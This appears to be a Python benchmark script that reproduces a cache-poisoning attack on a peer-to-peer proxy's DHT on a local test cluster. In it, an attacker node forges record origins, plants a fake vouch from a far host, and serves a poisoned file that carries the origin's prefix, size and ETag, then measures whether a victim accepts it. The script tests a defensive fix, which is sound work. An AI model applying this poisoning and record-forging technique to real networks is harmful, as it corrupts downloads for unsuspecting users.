"""One address, one vote: the "unattested publisher" attack against a victim proxy, measured on any checkout.

One machine with one address (127.0.0.66) vouches for a manifest from that address, which honest storing nodes
store and attest, and plants a second key's vouch (claiming a far public host) in its own DHT node's store, which
swears it saw it arrive from there. The poison is the origin's first 64 KiB followed by the attacker's bytes, under
the origin's own size and ETag, so it passes the check of the origin bytes a victim holds when it switches. A
victim then GETs the URL from an origin crawling below R (an R switch). Trees that counted every unattested
publisher in one extra `unknown` network saw a quorum of two; the fix weighs it nothing.

    python -m bench.attacks.one_address_quorum [--size BYTES]

Prints how many of the victim's bytes were the attacker's and whether it kept and re-shared them.
"""

from __future__ import annotations

import argparse
import asyncio
import hashlib
import pathlib
import tempfile
import time

from dht.identity import NodeIdentity
from dht.records import ManifestRecord, ProviderRecord, Transport
from proxy.demo.local_swarm import Cluster
from proxy.demo.slow_origin import SlowOrigin
from proxy.engine import url_key
from swarm.content.manifest import build_manifest

HONEST_PREFIX = 65536  # the origin bytes a victim holds at its switch, and checks the swarm's against
FAR_HOST = "192.31.196.7"  # a public address the planted key claims (never contacted)
SWITCH = {"first_byte_timeout": "0.3", "min_rate": "160k", "rate_window": "0.5"}


def _lie(dht) -> None:
    """The attacker's storing node swears it saw every record arrive from the host the record names."""
    store = dht.store
    original = store.get_observed
    store.get_observed = lambda kind, key, now: [(r, getattr(r, "host", None)) for r, _ in original(kind, key, now)]


async def run(size: int, workdir: pathlib.Path) -> dict:
    data = (hashlib.sha256(b"the origin's file").digest() * (size // 32 + 1))[:size]
    evil = (b"<script>alert('the attacker')</script>" * (size // 38 + 1))[:size]
    poison = data[:HONEST_PREFIX] + evil[HONEST_PREFIX:]
    origin = SlowOrigin()
    await origin.start()
    honest = Cluster(workdir / "honest", **SWITCH)
    bad = Cluster(workdir / "attacker", hosts=["127.0.0.66"], **SWITCH)
    try:
        await honest.grow(3)
        bad.bootstrap = honest.nodes[0].addresses["dht"]
        attacker = await bad.add()
        _lie(attacker.dht)
        url = origin.add("/tool.bin", data, headers={"Content-Type": "application/octet-stream"})
        etag = origin.files["/tool.bin"][1]
        path = workdir / "poison.bin"
        path.write_bytes(poison)
        manifest, layer = build_manifest([poison], size, url=url, validator=etag)
        attacker.engine.store.adopt(manifest, layer, path, pin=True)
        for swarm in attacker.engine.nodes.values():
            swarm.share(manifest.root)
        now, port = time.time(), attacker.engine.address[1]
        for host, planted in (("127.0.0.66", False), (FAR_HOST, True)):
            identity = NodeIdentity.generate()
            record = ManifestRecord.create(identity, repr_key=url_key(url), content_root=manifest.root, size=size,
                                           block_size=manifest.block_size, validator=etag, host=host, now=now,
                                           ttl_s=3600)
            await attacker.dht.publish(record)
            if planted:  # honest nodes refuse it (it does not come from FAR_HOST): only the attacker's store has it
                attacker.dht.store._insert((record.kind, record.key), record, "self", None)
            await attacker.dht.publish(ProviderRecord.create(identity, root=manifest.root, host="127.0.0.66",
                                                             port=port, transports=Transport.TCP, now=now,
                                                             ttl_s=3600))
        origin.set_rate(100_000)  # below R: the victim switches with the origin's first bytes in hand
        victim = await honest.add()
        began = time.monotonic()
        status, _, body = await honest.get(victim, url)
        seconds = time.monotonic() - began
        await victim.engine.settled()
        record = honest.last_record(victim)
        wrong = sum(1 for a, b in zip(body, data) if a != b) + abs(len(body) - len(data))
        return {
            "victim_status": status,
            "victim_bytes": len(body),
            "bytes_not_the_origins": wrong,
            "bytes_from_peers": record["bytes_peers"],
            "manifest_source": record["manifest_source"],
            "swarm_skipped": record["swarm_skipped"],
            "victim_kept_the_poison": manifest.root in victim.engine.store,
            "seconds": round(seconds, 2),
        }
    finally:
        await bad.close()
        await honest.close()
        await origin.stop()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--size", type=int, default=2_000_000, help="the file's size in bytes (2,000,000)")
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as directory:
        result = asyncio.run(run(args.size, pathlib.Path(directory)))
    for name, value in result.items():
        print(f"{name:26} {value}")


if __name__ == "__main__":
    main()
